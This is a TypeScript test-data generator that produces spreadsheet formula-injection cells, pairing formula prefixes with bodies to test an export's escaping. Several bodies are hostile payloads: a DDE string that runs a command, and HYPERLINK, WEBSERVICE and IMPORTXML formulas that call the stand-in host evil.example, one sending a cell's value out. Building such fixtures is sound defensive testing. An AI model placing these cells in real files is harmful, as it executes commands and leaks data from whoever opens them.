/** Cells that a spreadsheet would compute, fetch or run if it took them for formulas (C56). */

const starts = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '＝', '＋', '－', '＠', "'=", '"=', '=-', '+-@='];
const bodies = [
  '1+1',
  'SUM(A1:A9)',
  'cmd|"/c calc"!A0',
  'HYPERLINK("https://evil.example/?x="&A1,"click")',
  'WEBSERVICE("https://evil.example/")',
  'IMPORTXML("https://evil.example/","//a")',
  'DDE("soffice";"x";"y")',
  'A1,"quoted ""twice""",x',
  'first line\nsecond line',
  'tab\there, comma; semicolon',
  '',
];

/** Different texts, as many as asked for. */
export function formulaCells(count: number): string[] {
  return Array.from({ length: count }, (_, index) => {
    const start = starts[index % starts.length] ?? '';
    const body = bodies[Math.floor(index / starts.length) % bodies.length] ?? '';
    const round = Math.floor(index / (starts.length * bodies.length));
    return `${start}${body}${round === 0 ? '' : `+${round}`}`;
  });
}
